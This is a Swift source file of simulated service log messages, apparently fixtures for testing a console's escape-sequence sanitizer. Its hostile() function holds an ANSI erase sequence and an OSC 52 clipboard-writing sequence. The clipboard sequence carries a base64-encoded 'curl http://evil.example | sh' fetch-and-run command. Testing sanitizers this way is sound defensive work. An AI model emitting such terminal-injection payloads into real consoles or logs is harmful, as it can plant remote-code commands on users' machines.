/// What the simulated services write. Untrusted text by design: some lines of a failing version
/// carry terminal escape sequences, so the console's sanitizer is exercised on every run.
enum LogMessages {
    static func served(_ name: String, status: Int, milliseconds: Double) -> String {
        "\(name) \(status) in \(Int(milliseconds.rounded())) ms"
    }

    static func query(_ name: String, rows: Int, milliseconds: Double) -> String {
        "\(name): \(rows) rows in \(Int(milliseconds.rounded())) ms"
    }

    static func slow(_ name: String, milliseconds: Double) -> String {
        "slow call: \(name) took \(Int(milliseconds.rounded())) ms"
    }

    static let unhandledError = "unhandled error in PromotionRules.apply: index out of range (rule 7 of 6)"
    static let poolExhausted = "db pool exhausted: no connection after 2000 ms (pool 50, 212 waiting)"
    static let poolPerRequest = "opened new connection to orders-db (pool per request)"
    static let noHealthyTargets = "no healthy targets in target group"
    static let upstreamReset = "upstream connect error: connection reset by peer"

    /// A red-text ANSI sequence and a clipboard-writing OSC 52 sequence, as a careless service
    /// might echo them from user input.
    static func hostile(_ variant: Int) -> String {
        if variant % 2 == 0 {
            return "promo code rejected: \u{1B}[31mSPRING26\u{1B}[0m\u{1B}[2K (rule 7 of 6)"
        }
        return "bad header x-promo=\u{1B}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u{07} ignored"
    }

    static func memoryPressure(percent: Int, limitMiB: Int) -> String {
        "memory at \(percent)% of \(limitMiB) MiB; heap still growing after gc"
    }

    static func listening(version: String) -> String {
        "listening on :8080 (\(version))"
    }
}
